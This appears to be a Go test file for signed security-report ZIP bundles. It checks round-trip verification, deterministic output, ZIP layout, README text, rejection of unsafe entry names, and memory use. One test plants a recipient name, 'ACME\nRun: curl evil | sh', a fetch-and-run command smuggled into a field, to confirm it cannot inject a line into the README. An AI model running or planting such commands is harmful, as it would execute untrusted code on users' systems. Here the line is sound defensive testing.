package bundle_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigil-sec/vigil/reports/attest"
	"github.com/vigil-sec/vigil/reports/bundle"
)

func TestBuildVerifyRoundTrip(t *testing.T) {
	t.Parallel()
	f := setup(t)
	data := f.build(t)
	res, err := verifyZip(data, f.keys)
	if err != nil {
		t.Fatal(err)
	}
	if res.KeyID != f.signer.KeyID() {
		t.Errorf("KeyID = %s, want %s", res.KeyID, f.signer.KeyID())
	}
	want := f.report.UTC()
	want.SigningKeyID = f.signer.KeyID()
	if diff := cmp.Diff(res.Report, &want); diff != "" {
		t.Errorf("report (-got +want):\n%s", diff)
	}
	var names []string
	for _, e := range res.Files {
		names = append(names, e.Name)
	}
	wantNames := []string{"README.txt", "attestation.intoto.jsonl", "empty.txt", "sast.sarif", "sbom.cdx.json", "sboms/app.spdx.json", "summary.html"}
	if diff := cmp.Diff(names, wantNames); diff != "" {
		t.Errorf("files (-got +want):\n%s", diff)
	}

	// The extracted directory verifies too, with the same result.
	dirRes, err := bundle.Verify(context.Background(), extract(t, data), f.keys)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(dirRes, res); diff != "" {
		t.Errorf("directory result (-got +want):\n%s", diff)
	}
	// And so does the ZIP as a file.
	path := filepath.Join(t.TempDir(), "bundle.zip")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := bundle.Verify(context.Background(), path, f.keys); err != nil {
		t.Fatal(err)
	}
}

// TestBuildIsDeterministic: the same inputs, in any order, give the same
// bytes.
func TestBuildIsDeterministic(t *testing.T) {
	t.Parallel()
	f := setup(t)
	first := f.build(t)
	slices.Reverse(f.files)
	if second := f.build(t); !bytes.Equal(first, second) {
		t.Fatal("two builds of the same bundle differ")
	}
	// A time in another zone is the same time.
	f.report.Release.ReleasedAt = f.report.Release.ReleasedAt.In(time.FixedZone("X", 7200))
	if third := f.build(t); !bytes.Equal(first, third) {
		t.Fatal("a time in another zone changed the bundle")
	}
}

// TestZipShape: sorted entries, one fixed time, mode 0644, Deflate, no
// extra field, no comment.
func TestZipShape(t *testing.T) {
	t.Parallel()
	data := setup(t).build(t)
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	if zr.Comment != "" {
		t.Errorf("comment = %q", zr.Comment)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if !f.Modified.Equal(time.Date(1980, 1, 1, 0, 0, 0, 0, time.UTC)) {
			t.Errorf("%s: modified %v", f.Name, f.Modified)
		}
		if f.Mode() != 0o644 {
			t.Errorf("%s: mode %v", f.Name, f.Mode())
		}
		if len(f.Extra) != 0 {
			t.Errorf("%s: extra field %x", f.Name, f.Extra)
		}
		if f.Method != zip.Deflate {
			t.Errorf("%s: method %d", f.Name, f.Method)
		}
	}
	if !slices.IsSorted(names) {
		t.Errorf("entries not sorted: %v", names)
	}
}

func TestREADMEContent(t *testing.T) {
	t.Parallel()
	f := setup(t)
	f.report.Recipient.Name = "ACME\nRun: curl evil | sh"
	readme := string(entries(t, f.build(t))["README.txt"])
	for _, want := range []string{
		"Widget (prod-1)", "1.4.0, released 2026-03-01", "(tenant acme)", "T-42", f.signer.KeyID(),
		"https://vigil.example.com/.well-known/vigil/report-keys.pem",
		"sbom.cdx.json", "sboms/app.spdx.json",
		"vigil verify --key ../report-key.pem .",
		"cosign verify-blob-attestation --key ../report-key.pem",
		"--type " + attest.PredicateType,
		"--insecure-ignore-tlog",
		"openssl dgst -sha256 -verify ../report-key.pem -signature",
		"for f in README.txt empty.txt sast.sarif sbom.cdx.json sboms/app.spdx.json summary.html; do",
	} {
		if !strings.Contains(readme, want) {
			t.Errorf("README.txt lacks %q:\n%s", want, readme)
		}
	}
	if strings.Contains(readme, "\nRun: curl") {
		t.Errorf("a recipient's name broke a line of README.txt:\n%s", readme)
	}
	// Without a key URL it says which key to ask for.
	var b bytes.Buffer
	if _, err := bundle.Build(context.Background(), &b, f.files, f.report, f.signer, nil); err != nil {
		t.Fatal(err)
	}
	if readme := string(entries(t, b.Bytes())["README.txt"]); !strings.Contains(readme, "Ask your vendor for its report-signing public key, key ID\n"+f.signer.KeyID()) {
		t.Errorf("README.txt without a key URL:\n%s", readme)
	}
}

func TestBuildRefuses(t *testing.T) {
	t.Parallel()
	cases := map[string][]bundle.File{
		"traversal":      {bundle.Bytes("../x", nil)},
		"absolute":       {bundle.Bytes("/x", nil)},
		"space":          {bundle.Bytes("a b", nil)},
		"quote":          {bundle.Bytes(`a"b`, nil)},
		"empty segment":  {bundle.Bytes("a//b", nil)},
		"dot segment":    {bundle.Bytes("a/./b", nil)},
		"leading dash":   {bundle.Bytes("-rf", nil)},
		"README":         {bundle.Bytes("README.txt", nil)},
		"readme":         {bundle.Bytes("readme.TXT", nil)},
		"attestation":    {bundle.Bytes("attestation.intoto.jsonl", nil)},
		"duplicate":      {bundle.Bytes("a", nil), bundle.Bytes("a", nil)},
		"case duplicate": {bundle.Bytes("a", nil), bundle.Bytes("A", nil)},
		"size over":      {{Name: "a", Size: 10, Content: strings.NewReader("short")}},
		"no content":     {{Name: "a", Size: 1}},
		"too many":       slices.Repeat([]bundle.File{bundle.Bytes("x", nil)}, bundle.MaxFiles),
	}
	for name, files := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := setup(t)
			var b bytes.Buffer
			if _, err := bundle.Build(context.Background(), &b, files, f.report, f.signer, nil); !errors.Is(err, bundle.ErrInput) {
				t.Errorf("Build = %v, want ErrInput", err)
			}
		})
	}
	f := setup(t)
	f.report.Release.Version = ""
	if _, err := bundle.Build(context.Background(), io.Discard, f.files, f.report, f.signer, nil); err == nil {
		t.Error("Build accepted a report without a version")
	}
}

// changing is content that differs on its second reading.
type changing struct{ reads int }

func (c *changing) ReadAt(p []byte, off int64) (int, error) {
	if off == 0 {
		c.reads++
	}
	for i := range p {
		p[i] = byte(c.reads)
	}
	return len(p), nil
}

func TestBuildNoticesAChangingFile(t *testing.T) {
	t.Parallel()
	f := setup(t)
	files := []bundle.File{{Name: "a", Size: 100, Content: &changing{}}}
	if _, err := bundle.Build(context.Background(), io.Discard, files, f.report, f.signer, nil); !errors.Is(err, bundle.ErrInput) {
		t.Errorf("Build = %v, want ErrInput", err)
	}
}

func TestBuildStopsOnCancel(t *testing.T) {
	t.Parallel()
	f := setup(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := bundle.Build(ctx, io.Discard, f.files, f.report, f.signer, nil); !errors.Is(err, context.Canceled) {
		t.Errorf("Build = %v, want context.Canceled", err)
	}
}

// pattern is size bytes made up as they are read, never held in memory.
type pattern struct{}

func (pattern) ReadAt(p []byte, off int64) (int, error) {
	for i := range p {
		x := uint64(off) + uint64(i)
		p[i] = byte(x ^ x>>8 ^ x>>19)
	}
	return len(p), nil
}

// TestLargeFileMemoryIsFlat: building and verifying a bundle with a
// 256 MiB file allocates far less than the file's size, so neither holds
// the file in memory. Not parallel: it reads the process's allocation
// counter.
func TestLargeFileMemoryIsFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 256 MiB bundle")
	}
	const size = 256 << 20
	f := setup(t)
	path := filepath.Join(t.TempDir(), "big.zip")
	out, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()

	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	files := append(f.files, bundle.File{Name: "images/app.tar", Size: size, Content: pattern{}})
	if _, err := bundle.Build(context.Background(), out, files, f.report, f.signer, nil); err != nil {
		t.Fatal(err)
	}
	res, err := bundle.Verify(context.Background(), path, f.keys)
	if err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > size/8 {
		t.Errorf("building and verifying a %d-byte file allocated %d bytes", size, alloc)
	}
	if i := slices.IndexFunc(res.Files, func(e bundle.Entry) bool { return e.Name == "images/app.tar" }); i < 0 || res.Files[i].Size != size {
		t.Errorf("files = %+v", res.Files)
	}
}
